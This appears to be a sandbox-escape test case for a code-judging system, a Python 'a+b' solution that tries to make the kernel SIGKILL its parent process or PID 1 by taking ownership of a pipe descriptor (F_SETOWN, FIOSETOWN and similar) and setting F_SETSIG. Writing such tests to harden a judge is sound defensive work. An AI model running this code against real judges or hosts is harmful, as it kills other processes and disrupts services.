# id=H25 | tries=makes the kernel send SIGKILL to its parent, as the owner of a descriptor with F_SETSIG | verdicts=AC | invariants=no_pwn,judge_alive | dangerous=kills its parent
import fcntl, os, signal, struct

a, b = map(int, input().split())
bad = False
r, w = os.pipe()
for pid in {os.getppid(), 1} - {0, os.getpid()}:
    for own in (
        lambda: fcntl.fcntl(r, fcntl.F_SETOWN, pid),
        lambda: fcntl.fcntl(r, 15, struct.pack("ii", 1, pid)),  # F_SETOWN_EX
        lambda: fcntl.ioctl(r, 0x8901, struct.pack("i", pid)),  # FIOSETOWN
        lambda: fcntl.ioctl(r, 0x8902, struct.pack("i", pid)),  # SIOCSPGRP
    ):
        try:
            own()
            bad = True
            fcntl.fcntl(r, 10, signal.SIGKILL)  # F_SETSIG
            fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(w, b"x")
        except OSError:
            pass
print("PWNED" if bad else a + b)
